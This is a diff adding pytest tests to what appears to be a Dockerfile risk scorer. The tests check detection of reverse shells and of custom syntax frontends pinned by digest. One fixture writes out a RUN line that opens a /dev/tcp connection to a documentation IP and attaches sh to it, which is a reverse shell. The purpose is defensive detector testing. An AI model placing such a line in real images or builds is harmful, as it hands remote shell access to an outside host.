@@ -181,3 +181,18 @@ def test_what_is_no_text_is_told_with_the_way_out(given: Any) -> None:
     """A path is the likely mistake: the error says to read it."""
     with pytest.raises(SettingsError, match=f"{type(given).__name__}, expected.*read_text"):
         score_dockerfile(given)
+
+
+def test_a_shell_beside_an_open_connection_is_none_that_is_joined_to_it() -> None:
+    opened = "FROM a\nRUN exec 3<>/dev/tcp/203.0.113.5/1; "
+
+    assert "dockerfile.reverse_shell" in score_dockerfile(f"{opened}sh <&3 >&3\n").signals
+    assert "dockerfile.reverse_shell" not in score_dockerfile(f"{opened}sh <x >y\n").signals
+
+
+def test_a_frontend_that_a_digest_pins_is_known_by_its_name() -> None:
+    digest = f"sha256:{'a' * 64}"
+
+    for name, is_custom in (("docker/dockerfile", False), ("registry.example/x", True)):
+        signals = score_dockerfile(f"# syntax={name}@{digest}\nFROM a\n").signals
+        assert is_custom == ("dockerfile.custom_frontend" in signals)
